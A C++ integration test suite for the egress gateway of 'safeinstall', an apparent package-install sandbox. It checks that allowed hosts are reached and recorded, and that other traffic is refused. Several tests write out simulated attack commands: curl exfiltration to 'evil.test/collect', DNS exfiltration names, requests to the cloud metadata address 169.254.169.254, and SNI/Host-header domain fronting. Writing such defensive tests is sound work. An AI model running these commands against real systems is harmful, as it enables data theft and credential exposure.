// The egress gateway end to end: the real binary runs inside the fake internet's world
// namespace (tests/support/fake_internet.h), its sandbox reaches out through the gateway's
// proxy, DNS stub and transparent relay, and every test shows both sides: what safeinstall's
// report (and receipt) recorded, and what the fake internet's servers saw -- the registry
// exactly what was allowed, byte for byte; the sink, the DNS server, the metadata stand-in and
// the world's loopback nothing they should not have.
//
// Direct connections from the sandbox (no gateway involved) are test_network.cpp's.
#include <algorithm>
#include <catch2/catch.hpp>
#include <charconv>
#include <cstdint>
#include <cstdlib>
#include <fstream>
#include <optional>
#include <regex>
#include <sstream>
#include <thread>

#include "tests/integration/harness.h"
#include "tests/integration/skip.h"
#include "tests/support/blob.h"
#include "tests/support/fake_internet.h"

using namespace safeinstall::test;
using namespace std::chrono_literals;
using Log = FakeInternet::Log;
using nlohmann::json;

namespace {

Who both_users() {
  return GENERATE(Who::Root, Who::Unprivileged);
}

// The sink logs a silent TCP connection only after a second; wait this long before showing
// that it logged nothing.
constexpr auto kSinkSettle = 1500ms;

// The machine running the tests may have proxy settings of its own; safeinstall would chain
// through them. Unset (empty counts as unset) unless a test sets its own.
const std::vector<std::string> kNoInvokerProxy = {
    "http_proxy=", "HTTP_PROXY=", "https_proxy=", "HTTPS_PROXY=",
    "all_proxy=",  "ALL_PROXY=",  "no_proxy=",    "NO_PROXY="};

std::optional<std::string> egress_unavailable() {
  if (auto reason = FakeInternet::unavailable_reason()) return "no fake internet here: " + *reason;
  if (which("curl").empty()) return "curl is not installed (scripts/setup.sh installs it)";
  return std::nullopt;
}

#define SKIP_UNLESS_EGRESS(who)                       \
  SKIP_UNLESS_SANDBOX(who);                           \
  do {                                                \
    if (auto egress_reason_ = egress_unavailable()) { \
      WARN("skipped: " << *egress_reason_);           \
      return;                                         \
    }                                                 \
  } while (false)

// A fake internet and a scenario whose safeinstall runs in its world.
class Egress {
 public:
  explicit Egress(Who who) : net_(SI_SINK_PATH), scenario_(who) {
    scenario_.run_behind(net_.in_world({}));
  }

  // safeinstall --allow-host A... -- command, with `env` added to the invoker's environment.
  SandboxRun run(const std::vector<std::string>& command, const std::vector<std::string>& allow,
                 const std::vector<std::string>& env = {}) const {
    std::vector<std::string> flags;
    for (const auto& pattern : allow) flags.insert(flags.end(), {"--allow-host", pattern});
    std::vector<std::string> environment = kNoInvokerProxy;
    environment.insert(environment.end(), env.begin(), env.end());
    auto result = scenario_.run(command, flags, environment);
    UNSCOPED_INFO("safeinstall " << Catch::Detail::stringify(flags) << " -- "
                                 << Catch::Detail::stringify(command) << "\nexit "
                                 << result.exit_code() << "\nstdout: " << result.result.out
                                 << "\nstderr: " << result.result.err
                                 << "\nnetwork: " << network(result).dump());
    return result;
  }

  // sh -c SCRIPT in the sandbox; the probe is at $PROBE.
  SandboxRun shell(const std::string& script, const std::vector<std::string>& allow,
                   const std::vector<std::string>& env = {}) const {
    return run({"/bin/sh", "-c", "PROBE=" + scenario_.probe_in_project() + "; " + script}, allow,
               env);
  }

  static json network(const SandboxRun& run) {
    if (!run.report.is_object() || !run.report.contains("network")) return json::object();
    return run.report.at("network");
  }

  const FakeInternet& net() const { return net_; }
  const Scenario& scenario() const { return scenario_; }

  // What the servers logged, shown when a check fails.
  std::string logs() const {
    std::string out;
    const std::pair<Log, const char*> all[] = {
        {Log::Sink, "sink"},         {Log::Dns, "dns"},
        {Log::Registry, "registry"}, {Log::UpstreamProxy, "upstream proxy"},
        {Log::Metadata, "metadata"}, {Log::WorldLoopback, "world loopback"}};
    for (const auto& [log, name] : all) out += std::string("--- ") + name + ":\n" + net_.log(log);
    return out;
  }

 private:
  FakeInternet net_;
  Scenario scenario_;
};

// Entries of the report's network lists.
std::optional<json> contacted(const SandboxRun& run, const std::string& host, int port,
                              const std::string& via) {
  for (const auto& entry : Egress::network(run).value("contacted", json::array())) {
    if (entry.value("host", "") == host && entry.value("port", 0) == port &&
        entry.value("via", "") == via)
      return entry;
  }
  return std::nullopt;
}

std::optional<json> refused(const SandboxRun& run, const std::string& host, int port,
                            const std::string& reason) {
  for (const auto& entry : Egress::network(run).value("refused", json::array())) {
    if (entry.value("host", "") == host && entry.value("port", 0) == port &&
        entry.value("reason", "") == reason)
      return entry;
  }
  return std::nullopt;
}

std::vector<json> dns_questions(const SandboxRun& run, const std::string& name) {
  std::vector<json> out;
  for (const auto& entry : Egress::network(run).value("dns", json::array())) {
    if (entry.value("name", "") == name) out.push_back(entry);
  }
  return out;
}

std::size_t list_size(const SandboxRun& run, const char* list) {
  return Egress::network(run).value(list, json::array()).size();
}

std::uint64_t number_after(const std::string& line, const std::string& key) {
  auto at = line.find(key);
  if (at == std::string::npos) return 0;
  std::uint64_t value = 0;
  const char* begin = line.data() + at + key.size();
  std::from_chars(begin, line.data() + line.size(), value);
  return value;
}

std::vector<std::string> lines_of(const std::string& text) {
  std::vector<std::string> out;
  std::istringstream in(text);
  for (std::string line; std::getline(in, line);) out.push_back(line);
  return out;
}

// What the registry served on one port to one peer address: connections accepted and the
// bytes of every request (in) and response (out), as its log tells.
struct Served {
  int connections = 0;
  int requests = 0;
  std::uint64_t in = 0;
  std::uint64_t out = 0;
};

Served served_by_registry(const FakeInternet& net, const std::string& peer, int port) {
  Served served;
  const std::string port_text = " " + std::to_string(port);
  for (const auto& line : lines_of(net.log(Log::Registry))) {
    if (line == "accept " + peer + port_text) ++served.connections;
    if (line.starts_with("http " + peer + port_text + " ") ||
        line.starts_with("banner " + peer + port_text + " ")) {
      ++served.requests;
      served.in += number_after(line, " in=");
      served.out += number_after(line, " out=");
    }
  }
  return served;
}

// "sent N bytes, received M bytes" of the probe's tls-hello.
std::uint64_t probe_count(const std::string& probe_line, const std::string& what) {
  std::smatch match;
  std::regex pattern(what + " ([0-9]+) bytes");
  if (!std::regex_search(probe_line, match, pattern)) return 0;
  return std::stoull(match[1].str());
}

std::uint64_t field(const std::optional<json>& entry, const char* name) {
  return entry ? entry->value(name, std::uint64_t{0}) : 0;
}

bool contains(const std::string& text, const std::string& needle) {
  return text.find(needle) != std::string::npos;
}

}  // namespace

TEST_CASE("curl through the gateway's proxy fetches from an allowed host", "[egress]") {
  Who who = both_users();
  SKIP_UNLESS_EGRESS(who);
  Egress e(who);
  const auto& net = e.net();
  auto run = e.run({"curl", "-sS", "--max-time", "20", "http://registry.test/blob/1000"},
                   {"registry.test:80"});
  INFO(e.logs());
  CHECK(run.exit_code() == 0);
  CHECK(run.result.out == registry_blob(1000));

  // safeinstall's side: one connection via the proxy, with the bytes the registry counted.
  REQUIRE(net.wait_for_log(Log::Registry, "GET /blob/1000 in="));
  auto entry = contacted(run, "registry.test", 80, "proxy");
  REQUIRE(entry);
  Served served = served_by_registry(net, FakeInternet::kWorldAddress, 80);
  CHECK(served.connections == 1);
  CHECK(field(entry, "connections") == 1);
  CHECK(field(entry, "bytes_received") >= 1000);
  CHECK(field(entry, "bytes_received") == served.out);
  CHECK(field(entry, "bytes_sent") == served.in);
  CHECK(list_size(run, "contacted") == 1);
  CHECK(list_size(run, "refused") == 0);
  CHECK(list_size(run, "dns") == 0);  // curl asked the proxy, not DNS
  CHECK(contains(run.result.err, "registry.test:80 via proxy, 1 connection(s)"));

  // The fake internet's side: the gateway, from the world's address, resolved the name with
  // the world's resolver and fetched exactly this; nothing reached the sink.
  CHECK(contains(net.dns_log(), "udp 198.51.100.2 registry.test A -> 203.0.113.10"));
  CHECK(contains(net.log(Log::Registry), "http 198.51.100.2 80 GET /blob/1000 "));
  std::this_thread::sleep_for(kSinkSettle);
  CHECK(net.sink_log().empty());
}

TEST_CASE("a host the policy does not list is refused at the proxy and never contacted",
          "[egress]") {
  Who who = both_users();
  SKIP_UNLESS_EGRESS(who);
  Egress e(who);
  const auto& net = e.net();
  // Plain HTTP (absolute-form request) and HTTPS (CONNECT) to the attacker's host.
  auto run = e.shell(
      "curl -sS -o /dev/null -w '%{http_code} %{http_connect}\\n' --max-time 20 "
      "http://evil.test/collect?k=v; "
      "curl -sS -o /dev/null -w '%{http_code} %{http_connect}\\n' --max-time 20 "
      "https://evil.test/collect; exit 0",
      {"registry.test:80", "registry.test"});
  INFO(e.logs());
  CHECK(run.exit_code() == 121);  // refused egress holds the run as suspicious
  CHECK(run.report.at("verdict") == "held");
  CHECK(run.result.out == "403 000\n000 403\n");

  auto http = refused(run, "evil.test", 80, "not-allowed");
  auto https = refused(run, "evil.test", 443, "not-allowed");
  CHECK(field(http, "count") == 1);
  CHECK(field(https, "count") == 1);
  CHECK(list_size(run, "contacted") == 0);
  CHECK(contains(run.result.err, "evil.test:80 (not-allowed)"));

  // Refused before resolution: not even the name left the machine.
  std::this_thread::sleep_for(kSinkSettle);
  CHECK(net.sink_log().empty());
  CHECK_FALSE(contains(net.dns_log(), "evil.test"));
  CHECK(net.log(Log::Registry).empty());
}

TEST_CASE(
    "a client that ignores the proxy variables reaches an allowed host through DNS and "
    "the transparent relay",
    "[egress]") {
  Who who = both_users();
  SKIP_UNLESS_EGRESS(who);
  Egress e(who);
  const auto& net = e.net();
  auto run =
      e.run({"curl", "--noproxy", "*", "-sS", "--max-time", "20", "http://registry.test/blob/1000"},
            {"registry.test:80"});
  INFO(e.logs());
  CHECK(run.exit_code() == 0);
  CHECK(run.result.out == registry_blob(1000));

  REQUIRE(net.wait_for_log(Log::Registry, "GET /blob/1000 in="));
  auto entry = contacted(run, "registry.test", 80, "transparent");
  REQUIRE(entry);
  Served served = served_by_registry(net, FakeInternet::kWorldAddress, 80);
  CHECK(field(entry, "connections") == 1);
  CHECK(field(entry, "bytes_received") == served.out);
  CHECK(field(entry, "bytes_sent") == served.in);
  CHECK_FALSE(contacted(run, "registry.test", 80, "proxy"));
  // curl's own lookup went to the stub, which answered it with a fake address.
  auto questions = dns_questions(run, "registry.test");
  REQUIRE_FALSE(questions.empty());
  CHECK(std::all_of(questions.begin(), questions.end(),
                    [](const json& q) { return q.value("allowed", false); }));
  CHECK(std::any_of(questions.begin(), questions.end(),
                    [](const json& q) { return q.value("type", "") == "A"; }));
  CHECK(contains(run.result.err, "registry.test:80 via transparent"));

  CHECK(contains(net.log(Log::Registry), "http 198.51.100.2 80 GET /blob/1000 "));
  std::this_thread::sleep_for(kSinkSettle);
  CHECK(net.sink_log().empty());
}

TEST_CASE(
    "a TLS client without proxy variables is relayed to the host its fake address stands "
    "for",
    "[egress]") {
  Who who = both_users();
  SKIP_UNLESS_EGRESS(who);
  Egress e(who);
  const auto& net = e.net();
  auto run =
      e.run({e.scenario().probe_in_project(), "tls-hello", "registry.test", "443", "registry.test"},
            {"registry.test"});
  INFO(e.logs());
  CHECK(run.probe_ok());
  // The probe dialled a fake loopback address the stub handed out, not the registry's.
  CHECK(run.probe_line.rfind("OK 127.", 0) == 0);
  const std::uint64_t hello = probe_count(run.probe_line, "sent");
  CHECK(hello > 0);
  CHECK(probe_count(run.probe_line, "received") == FakeInternet::kRegistryBannerBytes);

  REQUIRE(net.wait_for_log(Log::Registry, "banner 198.51.100.2 443 in="));
  auto entry = contacted(run, "registry.test", 443, "transparent");
  REQUIRE(entry);
  Served served = served_by_registry(net, FakeInternet::kWorldAddress, 443);
  CHECK(served.connections == 1);
  CHECK(served.in == hello);
  CHECK(served.out == FakeInternet::kRegistryBannerBytes);
  CHECK(field(entry, "connections") == 1);
  CHECK(field(entry, "bytes_sent") == hello);
  CHECK(field(entry, "bytes_received") == FakeInternet::kRegistryBannerBytes);
  // The ClientHello reached the registry unchanged, SNI and all.
  CHECK(contains(net.log(Log::Registry), "registry.test"));
  std::this_thread::sleep_for(kSinkSettle);
  CHECK(net.sink_log().empty());
}

TEST_CASE("a refused DNS name is recorded and its query never leaves the machine", "[egress]") {
  Who who = both_users();
  SKIP_UNLESS_EGRESS(who);
  Egress e(who);
  const auto& net = e.net();
  auto run = e.shell("\"$PROBE\" resolve 6578.exfil.invalid; \"$PROBE\" resolve evil.test; exit 0",
                     {"registry.test"});
  INFO(e.logs());
  CHECK(run.exit_code() == 121);  // refused names hold the run as suspicious
  CHECK(run.report.at("verdict") == "held");
  auto answers = lines_of(run.result.out);
  REQUIRE(answers.size() == 2);
  CHECK(answers[0].rfind("DENIED ENOENT", 0) == 0);
  CHECK(answers[1].rfind("DENIED ENOENT", 0) == 0);

  for (const char* name : {"6578.exfil.invalid", "evil.test"}) {
    INFO(name);
    auto questions = dns_questions(run, name);
    REQUIRE_FALSE(questions.empty());
    CHECK(std::none_of(questions.begin(), questions.end(),
                       [](const json& q) { return q.value("allowed", true); }));
    CHECK(std::any_of(questions.begin(), questions.end(),
                      [](const json& q) { return q.value("type", "") == "A"; }));
    CHECK(contains(run.result.err, std::string("dns refused: ") + name));
  }
  CHECK(list_size(run, "contacted") == 0);

  // The other side: neither name reached the fake internet's DNS server (nor the sink, which
  // listens on UDP 53 too). The control: the same kind of name asked from the world itself
  // does reach it, and is logged.
  std::this_thread::sleep_for(kSinkSettle);
  CHECK_FALSE(contains(net.dns_log(), "exfil"));
  CHECK_FALSE(contains(net.dns_log(), "evil.test"));
  CHECK(net.sink_log().empty());
  auto control = safeinstall::test::run(
      net.in_world({e.scenario().probe_in_project(), "resolve", "6579.exfil.invalid"}));
  CHECK(control.out.rfind("DENIED ENOENT", 0) == 0);
  CHECK(net.wait_for_log(Log::Dns, "udp 198.51.100.2 6579.exfil.invalid A -> NXDOMAIN"));
}

TEST_CASE("names that resolve to loopback or link-local addresses are refused as private",
          "[egress]") {
  Who who = both_users();
  SKIP_UNLESS_EGRESS(who);
  Egress e(who);
  const auto& net = e.net();
  // Every way in: the proxy (plain HTTP and CONNECT) and the transparent relay (HTTP and TLS).
  auto run = e.shell(
      "curl -sS -o /dev/null -w '%{http_code}\\n' --max-time 20 "
      "http://metadata.test/latest/meta-data/; "
      "curl -sS -o /dev/null -w '%{http_connect}\\n' --max-time 20 https://loopback.test/; "
      "curl --noproxy '*' -sS -o /dev/null -w '%{http_code}\\n' --max-time 20 "
      "http://loopback.test/; "
      "\"$PROBE\" tls-hello metadata.test 443 metadata.test; exit 0",
      {"metadata.test:80", "metadata.test", "loopback.test:80", "loopback.test"});
  INFO(e.logs());
  auto answers = lines_of(run.result.out);
  REQUIRE(answers.size() == 4);
  CHECK(answers[0] == "403");
  CHECK(answers[1] == "403");
  CHECK(answers[2] == "403");
  CHECK(answers[3].rfind("DENIED ECONNABORTED", 0) == 0);

  CHECK(field(refused(run, "metadata.test", 80, "private-address"), "count") == 1);
  CHECK(field(refused(run, "loopback.test", 443, "private-address"), "count") == 1);
  CHECK(field(refused(run, "loopback.test", 80, "private-address"), "count") == 1);
  CHECK(field(refused(run, "metadata.test", 443, "private-address"), "count") == 1);
  CHECK(list_size(run, "contacted") == 0);
  CHECK(contains(run.result.err, "metadata.test:80 (private-address)"));

  // The gateway did resolve the names (that is how it learnt they are private), but dialled
  // none of the addresses: the metadata stand-in and the world's own loopback saw nothing.
  CHECK(contains(net.dns_log(), "metadata.test A -> 169.254.169.254"));
  CHECK(contains(net.dns_log(), "loopback.test A -> 127.0.0.1"));
  std::this_thread::sleep_for(kSinkSettle);
  CHECK(net.log(Log::Metadata).empty());
  CHECK(net.log(Log::WorldLoopback).empty());
  CHECK(net.sink_log().empty());

  // The control: both stand-ins log what does reach them.
  auto imds = safeinstall::test::run(net.in_world(
      {e.scenario().probe_in_project(), "connect", FakeInternet::kMetadataAddress, "80", "ctl"}));
  CHECK(imds.exit_code == 0);
  CHECK(net.wait_for_log(Log::Metadata, "tcp 198.51.100.2 80 ctl"));
  auto local = safeinstall::test::run(
      net.in_world({e.scenario().probe_in_project(), "connect", "127.0.0.1", "80", "ctl"}));
  CHECK(local.exit_code == 0);
  CHECK(net.wait_for_log(Log::WorldLoopback, "tcp 127.0.0.1 80 ctl"));
}

TEST_CASE("a private address the policy lists exactly is reachable", "[egress]") {
  Who who = both_users();
  SKIP_UNLESS_EGRESS(who);
  Egress e(who);
  const auto& net = e.net();
  // The stand-in only logs and hangs up: curl gets an empty reply (52), which is fine here.
  auto run = e.run({"curl", "-sS", "--max-time", "20", "http://metadata.test/latest/meta-data/"},
                   {"metadata.test:80", "169.254.169.254:80"});
  INFO(e.logs());
  CHECK(net.wait_for_log(Log::Metadata, "tcp 198.51.100.2 80 GET /latest/meta-data/ HTTP/1.1"));
  CHECK(field(contacted(run, "metadata.test", 80, "proxy"), "connections") == 1);
  CHECK_FALSE(refused(run, "metadata.test", 80, "private-address"));
}

TEST_CASE("a TLS ClientHello whose SNI names another host than the dialled one is refused",
          "[egress]") {
  Who who = both_users();
  SKIP_UNLESS_EGRESS(who);
  Egress e(who);
  const auto& net = e.net();
  // Domain fronting through an allowed host's fake address: TLS SNI, and its plain-HTTP
  // counterpart, the Host header.
  auto run = e.shell(
      "\"$PROBE\" tls-hello registry.test 443 evil.test; "
      "curl --noproxy '*' -sS -o /dev/null -w '%{http_code}\\n' --max-time 20 "
      "-H 'Host: evil.test' http://registry.test/collect; exit 0",
      {"registry.test", "registry.test:80"});
  INFO(e.logs());
  auto answers = lines_of(run.result.out);
  REQUIRE(answers.size() == 2);
  CHECK(answers[0].rfind("DENIED ECONNABORTED", 0) == 0);
  CHECK(answers[0].rfind("DENIED ECONNABORTED 127.", 0) == 0);  // it did dial the fake address
  CHECK(answers[1] == "403");

  CHECK(field(refused(run, "evil.test", 443, "sni-mismatch"), "count") == 1);
  CHECK(field(refused(run, "evil.test", 80, "sni-mismatch"), "count") == 1);
  CHECK(list_size(run, "contacted") == 0);
  CHECK(contains(run.result.err, "evil.test:443 (sni-mismatch)"));

  // Refused on the ClientHello / request head alone: nothing was resolved or dialled.
  std::this_thread::sleep_for(kSinkSettle);
  CHECK(net.log(Log::Registry).empty());
  CHECK(net.sink_log().empty());
  CHECK_FALSE(contains(net.dns_log(), "evil.test"));
}

TEST_CASE("with the invoker's HTTP(S)_PROXY, allowed hosts are reached through that proxy",
          "[egress]") {
  Who who = both_users();
  SKIP_UNLESS_EGRESS(who);
  Egress e(who);
  const auto& net = e.net();
  const std::string proxy = "http://user:pw@" + std::string(FakeInternet::kUpstreamProxyAddress) +
                            ":" + std::to_string(FakeInternet::kUpstreamProxyPort);
  const std::string auth = "auth=Basic dXNlcjpwdw==";  // user:pw
  // Plain HTTP through the sandbox's proxy; a tunnel through the sandbox's proxy (CONNECT);
  // a TLS client caught by the transparent relay.
  auto run = e.shell(
      "curl -sS --max-time 20 http://registry.test/echo; echo; "
      "\"$PROBE\" tls-hello registry.test 443 registry.test 127.0.0.1 3128; "
      "\"$PROBE\" tls-hello registry.test 443 registry.test; exit 0",
      {"registry.test:80", "registry.test"}, {"HTTPS_PROXY=" + proxy, "HTTP_PROXY=" + proxy});
  INFO(e.logs());
  auto answers = lines_of(run.result.out);
  REQUIRE(answers.size() >= 3);
  // The registry's echo: the request as it arrived, in origin form, no proxy credentials.
  CHECK(answers[0] == "GET /echo HTTP/1.1");
  CHECK_FALSE(contains(run.result.out, "Proxy-Authorization"));
  CHECK_FALSE(contains(run.result.out, "dXNlcjpwdw"));
  auto tunnel = answers[answers.size() - 2];
  auto transparent = answers.back();
  CHECK(tunnel.rfind("OK ", 0) == 0);
  CHECK(transparent.rfind("OK 127.", 0) == 0);

  // The corporate proxy's side: it carried all three, with the invoker's credentials.
  CHECK(net.wait_for_log(Log::UpstreamProxy,
                         "GET 198.51.100.2 http://registry.test/echo " + auth + " -> 200"));
  CHECK(net.wait_for_log(Log::UpstreamProxy, "tunnel registry.test:443 up="));
  auto proxy_log = net.log(Log::UpstreamProxy);
  auto connects = lines_of(proxy_log);
  CHECK(std::count_if(connects.begin(), connects.end(), [&](const std::string& line) {
          return line == "CONNECT 198.51.100.2 registry.test:443 " + auth + " -> 200";
        }) == 2);
  // ... and only it reached the registry: the world itself never did, and never had to
  // resolve the name (the proxy does that).
  CHECK_FALSE(contains(net.log(Log::Registry), "198.51.100.2"));
  CHECK_FALSE(contains(net.dns_log(), "registry.test"));

  // safeinstall's side.
  CHECK(field(contacted(run, "registry.test", 80, "proxy"), "connections") == 1);
  CHECK(field(contacted(run, "registry.test", 443, "proxy"), "bytes_received") ==
        FakeInternet::kRegistryBannerBytes);
  CHECK(field(contacted(run, "registry.test", 443, "transparent"), "bytes_received") ==
        FakeInternet::kRegistryBannerBytes);
  CHECK(list_size(run, "refused") == 0);
  // The credentials stay with the gateway: not in the report, not in the receipt.
  CHECK_FALSE(contains(run.report.dump(), "user:pw"));
  CHECK_FALSE(contains(run.report.dump(), "dXNlcjpwdw"));
  CHECK_FALSE(contains(run.result.err, "user:pw"));
  std::this_thread::sleep_for(kSinkSettle);
  CHECK(net.sink_log().empty());
}

TEST_CASE("the invoker's NO_PROXY sends a host around the upstream proxy", "[egress]") {
  Who who = Who::Root;
  SKIP_UNLESS_EGRESS(who);
  Egress e(who);
  const auto& net = e.net();
  const std::string proxy = "http://" + std::string(FakeInternet::kUpstreamProxyAddress) + ":" +
                            std::to_string(FakeInternet::kUpstreamProxyPort);
  auto run = e.run({"curl", "-sS", "--max-time", "20", "http://registry.test/blob/10"},
                   {"registry.test:80"}, {"HTTP_PROXY=" + proxy, "NO_PROXY=.test"});
  INFO(e.logs());
  CHECK(run.result.out == registry_blob(10));
  CHECK(net.wait_for_log(Log::Registry, "http 198.51.100.2 80 GET /blob/10 "));
  CHECK(net.log(Log::UpstreamProxy).empty());
}

TEST_CASE("byte counts match what was transferred, over keep-alive, with uploads, in bulk",
          "[egress]") {
  Who who = both_users();
  SKIP_UNLESS_EGRESS(who);
  // The three paths: absolute-form requests to the proxy, the transparent relay on port 80,
  // and plain HTTP inside a CONNECT tunnel (curl -p). Sizes past a quarter MiB take the
  // gateway's splice path; the small ones its copying path.
  const std::string way = GENERATE(as<std::string>{}, "proxy", "transparent", "tunnel");
  INFO("via " << way);
  const std::string via = way == "transparent" ? "transparent" : "proxy";
  Egress e(who);
  const auto& net = e.net();
  const std::size_t upload = 600'000;
  const std::size_t bulk = 3'000'000;
  const std::size_t chunked = 700'000;  // Transfer-Encoding: chunked, 10 kB chunks
  {
    std::ofstream out(e.scenario().project() + "/upload.bin", std::ios::binary);
    out << registry_blob(upload);
  }
  // Four requests on one connection (keep-alive), the last with a body, then a second
  // connection; curl's own count of what it received, for the client side. (--next starts
  // the options afresh, the connection stays.)
  const std::string options =
      "-sS --max-time 30 " + std::string(way == "transparent" ? "--noproxy '*' "
                                         : way == "tunnel"    ? "-p "
                                                              : "");
  auto run = e.shell("curl " + options +
                         "-o /dev/null -o /dev/null -o /dev/null -w '%{size_download}\\n' "
                         "http://registry.test/blob/1000 http://registry.test/blob/" +
                         std::to_string(bulk) + " http://registry.test/chunked/" +
                         std::to_string(chunked) + " --next " + options +
                         "-o /dev/null -w '%{size_download}\\n' --data-binary @upload.bin "
                         "http://registry.test/echo; curl " +
                         options + "-o /dev/null http://registry.test/blob/3; exit 0",
                     {"registry.test:80"});
  INFO(e.logs());
  CHECK(run.exit_code() == 0);
  auto sizes = lines_of(run.result.out);
  REQUIRE(sizes.size() == 4);
  CHECK(sizes[0] == "1000");
  CHECK(sizes[1] == std::to_string(bulk));
  CHECK(sizes[2] == std::to_string(chunked));
  CHECK(std::stoull(sizes[3]) > upload);  // the echo holds the upload and the head

  REQUIRE(net.wait_for_log(Log::Registry, "GET /blob/3 in="));
  Served served = served_by_registry(net, FakeInternet::kWorldAddress, 80);
  CHECK(served.requests == 5);
  CHECK(served.connections == 2);
  auto entry = contacted(run, "registry.test", 80, via);
  REQUIRE(entry);
  CHECK(field(entry, "connections") == 2);
  CHECK(field(entry, "bytes_sent") == served.in);
  CHECK(field(entry, "bytes_received") == served.out);
  CHECK(field(entry, "bytes_sent") > upload);
  CHECK(field(entry, "bytes_received") > 1000 + bulk + chunked + upload + 3);
  CHECK(list_size(run, "contacted") == 1);
  CHECK(list_size(run, "refused") == 0);
}

TEST_CASE("many new connections in a row through the gateway are each recorded", "[egress]") {
  Who who = both_users();
  SKIP_UNLESS_EGRESS(who);
  // Each request on a connection of its own, as a client that does not keep connections
  // alive makes them: every one passes the recorded connect and the gateway's accept.
  const std::string way = GENERATE(as<std::string>{}, "proxy", "transparent");
  INFO("via " << way);
  constexpr int kRequests = 100;
  Egress e(who);
  const auto& net = e.net();
  const std::string options = way == "transparent" ? "--noproxy '*' " : "";
  auto run = e.shell("curl " + options +
                         "-sS --max-time 60 -H 'Connection: close' -o /dev/null "
                         "-w '%{http_code}\\n' 'http://registry.test/blob/10?[1-" +
                         std::to_string(kRequests) + "]'",
                     {"registry.test:80"});
  INFO(e.logs());
  CHECK(run.exit_code() == 0);
  auto codes = lines_of(run.result.out);
  CHECK(codes.size() == kRequests);
  CHECK(std::ranges::count(codes, std::string("200")) == kRequests);

  REQUIRE(net.wait_for_log(Log::Registry, "GET /blob/10?" + std::to_string(kRequests) + " in="));
  Served served = served_by_registry(net, FakeInternet::kWorldAddress, 80);
  CHECK(served.connections == kRequests);
  auto entry = contacted(run, "registry.test", 80, way);
  REQUIRE(entry);
  CHECK(field(entry, "connections") == kRequests);
  CHECK(field(entry, "bytes_sent") == served.in);
  CHECK(field(entry, "bytes_received") == served.out);
  CHECK(list_size(run, "contacted") == 1);
  CHECK(list_size(run, "refused") == 0);
}

TEST_CASE("npm view against the real registry through the gateway (opt-in)", "[egress][real]") {
  const char* opt_in = std::getenv("SAFEINSTALL_TEST_REAL_REGISTRY");
  if (opt_in == nullptr || std::string(opt_in) != "1") {
    WARN("skipped: set SAFEINSTALL_TEST_REAL_REGISTRY=1 to run npm against registry.npmjs.org");
    return;
  }
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  if (which("npm").empty()) {
    WARN("skipped: npm is not installed");
    return;
  }
  Scenario s(who);
  // The machine's own proxy settings apply here, as they would for a user.
  auto run = s.run({"npm", "view", "is-number", "version"}, {"--allow-host", "registry.npmjs.org"},
                   {}, 120s);
  INFO("stdout: " << run.result.out << "\nstderr: " << run.result.err);
  CHECK(run.exit_code() == 0);
  CHECK(std::regex_search(run.result.out, std::regex("^[0-9]+\\.[0-9]+\\.[0-9]+\\s*$")));
  REQUIRE(run.report.is_object());
  auto entry = contacted(run, "registry.npmjs.org", 443, "proxy");
  REQUIRE(entry);
  CHECK(field(entry, "bytes_received") > 0);
  CHECK(list_size(run, "refused") == 0);
}
